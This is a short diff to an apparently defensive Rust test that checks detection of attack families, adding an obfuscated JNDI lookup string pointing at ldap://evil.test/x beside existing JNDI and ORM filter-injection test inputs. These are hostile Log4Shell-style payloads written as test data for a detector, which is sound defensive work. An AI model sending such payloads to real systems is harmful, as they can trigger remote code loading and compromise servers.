@@ -33,6 +33,11 @@ fn attacks_of_each_family() {
             "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}",
             "injection_jndi",
         ),
+        (
+            Query,
+            "$${env:a:-${env:b:-$}{jndi:ldap://evil.test/x}}}",
+            "injection_jndi",
+        ),
         (Query, "user__password__startswith", "injection_orm"),
         (Body, "roles__contained_by", "injection_orm"),
         (Query, "balance__gte", "injection_orm"),
